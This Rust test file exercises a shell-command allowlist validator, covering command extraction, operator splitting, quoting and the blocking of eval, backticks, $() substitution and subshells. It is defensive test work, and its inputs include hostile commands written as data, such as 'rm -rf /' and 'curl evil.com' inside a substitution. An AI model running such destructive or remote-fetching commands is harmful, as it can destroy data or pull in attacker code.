use lean_ctx::shell_allowlist::{
    check_all_segments, check_shell_allowlist, effective_allowlist, extract_all_commands,
    extract_base_command, extract_base_from_segment, has_command_substitution_at_command_pos,
    has_dangerous_patterns, skip_env_assignments, split_on_operators,
};

// --- extract_base_command tests ---

#[test]
fn extract_simple_command() {
    assert_eq!(extract_base_command("git status"), "git");
}

#[test]
fn extract_with_path() {
    assert_eq!(extract_base_command("/usr/bin/git log"), "git");
}

#[test]
fn extract_with_env_assignment() {
    assert_eq!(extract_base_command("LANG=en_US git log"), "git");
}

#[test]
fn extract_chained_commands() {
    assert_eq!(extract_base_command("cd /tmp && ls -la"), "cd");
}

#[test]
fn extract_piped_command() {
    assert_eq!(extract_base_command("grep foo | wc -l"), "grep");
}

#[test]
fn extract_semicolon_chain() {
    assert_eq!(extract_base_command("echo hello; rm -rf /"), "echo");
}

#[test]
fn extract_empty_command() {
    assert_eq!(extract_base_command(""), "");
}

#[test]
fn extract_whitespace_only() {
    assert_eq!(extract_base_command("   "), "");
}

#[test]
fn extract_multiple_env_vars() {
    assert_eq!(extract_base_command("FOO=bar BAZ=qux cargo test"), "cargo");
}

// --- All-segments validation tests ---

fn allow(cmds: &[&str]) -> Vec<String> {
    cmds.iter().map(|c| c.to_string()).collect()
}

#[test]
fn allowlist_empty_always_passes() {
    assert!(check_all_segments("anything", &[]).is_ok());
}

#[test]
fn allowlist_blocks_unlisted() {
    let list = allow(&["git", "cargo"]);
    let result = check_all_segments("npm install", &list);
    assert!(result.is_err());
    assert!(result.unwrap_err().contains("npm"));
}

#[test]
fn allowlist_allows_listed() {
    let list = allow(&["git", "cargo", "npm"]);
    assert!(check_all_segments("git status", &list).is_ok());
    assert!(check_all_segments("cargo test --release", &list).is_ok());
    assert!(check_all_segments("npm run build", &list).is_ok());
}

#[test]
fn allowlist_allows_full_path() {
    let list = allow(&["git"]);
    assert!(check_all_segments("/usr/bin/git status", &list).is_ok());
}

#[test]
fn allowlist_allows_with_env_prefix() {
    let list = allow(&["git"]);
    assert!(check_all_segments("LANG=C git log", &list).is_ok());
}

#[test]
fn allowlist_blocks_similar_names() {
    let list = allow(&["git"]);
    assert!(check_all_segments("gitk --all", &list).is_err());
}

// --- Multi-segment validation ---

#[test]
fn all_segments_must_be_allowed_chain() {
    let list = allow(&["git", "cargo"]);
    // Both allowed → ok
    assert!(check_all_segments("git status && cargo test", &list).is_ok());
    // Second not allowed → block
    assert!(check_all_segments("git status && rm -rf /", &list).is_err());
}

#[test]
fn all_segments_must_be_allowed_pipe() {
    let list = allow(&["git", "grep", "wc"]);
    assert!(check_all_segments("git log | grep fix | wc -l", &list).is_ok());
    // cat not allowed
    assert!(check_all_segments("git log | cat", &list).is_err());
}

#[test]
fn all_segments_must_be_allowed_semicolon() {
    let list = allow(&["echo", "ls"]);
    assert!(check_all_segments("echo hello; ls -la", &list).is_ok());
    assert!(check_all_segments("echo hello; rm -rf /", &list).is_err());
}

#[test]
fn all_segments_must_be_allowed_or() {
    let list = allow(&["git", "echo"]);
    assert!(check_all_segments("git pull || echo failed", &list).is_ok());
    assert!(check_all_segments("git pull || curl evil.com", &list).is_err());
}

// --- Dangerous pattern detection ---

#[test]
fn blocks_eval() {
    let list = allow(&["echo", "eval"]);
    // Even if 'eval' is in allowlist, the pattern is blocked
    assert!(check_all_segments("eval 'rm -rf /'", &list).is_err());
}

#[test]
fn blocks_backticks() {
    let list = allow(&["echo"]);
    assert!(check_all_segments("echo `whoami`", &list).is_err());
}

#[test]
fn blocks_command_substitution_at_command_pos() {
    let list = allow(&["echo"]);
    assert!(check_all_segments("$(curl evil.com)", &list).is_err());
}

#[test]
fn blocks_dollar_paren_in_all_positions() {
    // In restricted mode (allowlist set), $() is blocked everywhere
    // because it can execute arbitrary code regardless of position
    let list = allow(&["echo"]);
    assert!(check_all_segments("echo $(whoami)", &list).is_err());
    // But normal commands without $() work fine
    assert!(check_all_segments("echo hello", &list).is_ok());
}

// --- Quote handling ---

#[test]
fn respects_single_quotes() {
    let list = allow(&["echo"]);
    // The semicolon is inside quotes, so it's one segment
    assert!(check_all_segments("echo 'hello; world'", &list).is_ok());
}

#[test]
fn respects_double_quotes() {
    let list = allow(&["echo"]);
    assert!(check_all_segments("echo \"hello && world\"", &list).is_ok());
}

// --- split_on_operators ---

#[test]
fn split_simple_pipe() {
    let parts = split_on_operators("a | b");
    assert_eq!(parts, vec!["a ", " b"]);
}

#[test]
fn split_complex_chain() {
    let parts = split_on_operators("a && b || c; d | e");
    assert_eq!(parts.len(), 5);
}

#[test]
fn split_preserves_quoted_operators() {
    let parts = split_on_operators("echo 'a && b' | grep x");
    assert_eq!(parts.len(), 2);
}

// --- messages and edge cases ---

#[test]
fn dangerous_command_message() {
    let list = allow(&["echo"]);
    assert_eq!(
        check_all_segments("echo `id`", &list),
        Err("[SHELL ALLOWLIST] Command contains dangerous patterns (eval, backticks, or $(...) substitution) which are blocked in restricted mode: echo `id`".to_string())
    );
}

#[test]
fn unlisted_segment_message() {
    let list = allow(&["git", "cargo"]);
    assert_eq!(
        check_all_segments("git status | npm install", &list),
        Err("[SHELL ALLOWLIST] Command segment 'npm install' (base: 'npm') is not allowed. All segments must be in the allowlist. Allowed: git, cargo".to_string())
    );
}

#[test]
fn empty_command_message() {
    let list = allow(&["git"]);
    assert_eq!(
        check_all_segments("  ; ", &list),
        Err("[SHELL ALLOWLIST] Empty command".to_string())
    );
}

#[test]
fn substitution_is_refused_in_assignments_too() {
    let list = allow(&["echo"]);
    assert!(check_all_segments("X=$(whoami) echo hi", &list).is_err());
    assert!(has_command_substitution_at_command_pos("X=$(whoami) echo hi"));
    assert!(!has_command_substitution_at_command_pos("X=1 echo hi"));
}

#[test]
fn eval_is_refused_behind_operators() {
    assert!(has_dangerous_patterns("ls; eval x"));
    assert!(has_dangerous_patterns("ls && eval x"));
    assert!(has_dangerous_patterns("  eval x"));
    assert!(!has_dangerous_patterns("evaluate x"));
}

#[test]
fn only_assignments_pass() {
    let list = allow(&["git"]);
    assert!(check_all_segments("FOO=bar", &list).is_ok());
}

#[test]
fn override_list_counts_before_the_configured_one() {
    let configured = allow(&["git"]);
    assert_eq!(
        effective_allowlist(Some(" npm , ,cargo"), &configured),
        vec!["npm".to_string(), "cargo".to_string()]
    );
    assert_eq!(effective_allowlist(None, &configured), configured);
    assert!(check_shell_allowlist("git status", Some("npm"), &configured).is_err());
    assert!(check_shell_allowlist("git status", None, &configured).is_ok());
    assert!(check_shell_allowlist("anything", Some(""), &configured).is_ok());
}

#[test]
fn segments_are_trimmed_and_not_empty() {
    assert_eq!(
        extract_all_commands(" a && ; b|c "),
        vec!["a".to_string(), "b".to_string(), "c".to_string()]
    );
}

#[test]
fn operators_in_parentheses_do_not_split() {
    assert_eq!(split_on_operators("(a; b) | c"), vec!["(a; b) ", " c"]);
    assert_eq!(split_on_operators("echo \"a\\\"; b\" c"), vec!["echo \"a\\\"; b\" c"]);
    assert_eq!(split_on_operators("a & b"), vec!["a & b"]);
}

#[test]
fn assignments_are_skipped() {
    assert_eq!(skip_env_assignments("A=1 B=2 cmd x=y"), "cmd x=y");
    assert_eq!(skip_env_assignments("--opt=1 cmd"), "--opt=1 cmd");
    assert_eq!(skip_env_assignments("./x=1 cmd"), "./x=1 cmd");
    assert_eq!(extract_base_from_segment(" A=1 /usr/bin/env x"), "env");
}

#[test]
fn eval_is_refused_in_every_segment() {
    assert!(has_dangerous_patterns("echo a || eval b"));
    assert!(has_dangerous_patterns("echo a | eval b"));
    assert!(has_dangerous_patterns("echo a;eval b"));
    assert!(has_dangerous_patterns("X=1 eval"));
    assert!(!has_dangerous_patterns("echo eval"));
    let list = allow(&["echo", "eval"]);
    assert!(check_all_segments("echo a || eval b", &list).is_err());
}

#[test]
fn a_command_word_without_a_name_is_not_allowed() {
    let list = allow(&["git"]);
    assert_eq!(
        check_all_segments("ls/ -la", &list),
        Err("[SHELL ALLOWLIST] Command segment 'ls/ -la' (base: '') is not allowed. All segments must be in the allowlist. Allowed: git".to_string())
    );
}

#[test]
fn subshells_are_refused() {
    let list = allow(&["git", "cat", "time", "echo", "ls"]);
    assert!(check_all_segments("(/usr/bin/git status; rm x)", &list).is_err());
    assert!(check_all_segments("cat <(rm x)", &list).is_err());
    assert!(check_all_segments("time (rm x)", &list).is_err());
    assert!(has_dangerous_patterns("ls;(rm x)"));
    assert!(check_all_segments(r#"echo '(a)' "(b)" \(c\)"#, &list).is_ok());
    assert!(check_all_segments("ls !(a)", &list).is_ok());
}

#[test]
fn escaped_quotes_do_not_hide_segments() {
    let list = allow(&["echo"]);
    assert!(check_all_segments(r"echo \';rm", &list).is_err());
    assert!(check_all_segments(r#"echo "a\\";rm"#, &list).is_err());
    assert_eq!(split_on_operators(r"echo \';rm"), vec![r"echo \'", "rm"]);
    assert_eq!(split_on_operators(r"echo \(;rm"), vec![r"echo \(", "rm"]);
    assert_eq!(split_on_operators(r"echo '\';rm"), vec![r"echo '\'", "rm"]);
}

#[test]
fn a_leading_assignment_makes_no_difference() {
    for command in ["git status", "", " ; x", "/bin/ls -l && y", "A=1", "   "] {
        for kv in ["K=v", r"K=v\", "=", "a=b=c"] {
            let with = format!("{kv} {command}");
            assert_eq!(extract_base_command(&with), extract_base_command(command));
        }
    }
}

#[test]
fn operators_behind_a_backslash_cut() {
    let list = allow(&["echo"]);
    assert_eq!(split_on_operators(r"a \; b"), vec![r"a \", " b"]);
    assert_eq!(split_on_operators(r"a \&& b"), vec![r"a \", " b"]);
    assert_eq!(split_on_operators(r"a \| b"), vec![r"a \", " b"]);
    assert_eq!(split_on_operators(r"a \|| b"), vec![r"a \", " b"]);
    assert!(check_all_segments(r"echo a \; rm -rf /", &list).is_err());
    assert!(check_all_segments(r"echo a \&& rm -rf /", &list).is_err());
    assert!(check_all_segments(r"echo 'a \; b'", &list).is_ok());
    assert_eq!(split_on_operators(""), Vec::<&str>::new());
    assert_eq!(split_on_operators(";"), vec![""]);
}
